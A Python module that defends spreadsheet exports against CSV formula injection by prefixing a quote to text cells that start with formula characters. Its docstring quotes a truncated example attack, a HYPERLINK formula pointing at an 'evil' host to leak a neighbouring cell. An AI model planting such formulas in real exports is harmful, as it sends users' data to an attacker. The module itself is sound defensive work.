"""Cells of a file a spreadsheet will open: never a formula the agency did not write.

A text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula by
Excel, LibreOffice and Google Sheets (CSV formula injection: `=HYPERLINK("http://evil…"&B2,…)` in a
block reason would send a neighbouring cell's data away when clicked). Every export passes each
text cell through `spreadsheet_cell`, which puts a `'` in front of such a value — the OWASP rule —
so the spreadsheet shows the text as typed. Numbers and dates are left to the writer.
"""

from __future__ import annotations

from collections.abc import Iterable

__all__ = ["FORMULA_STARTS", "spreadsheet_cell", "spreadsheet_row"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: object) -> object:
    """`value` as a spreadsheet must store it: text that would start a formula gets a leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def spreadsheet_row(values: Iterable[object]) -> list[object]:
    return [spreadsheet_cell(value) for value in values]
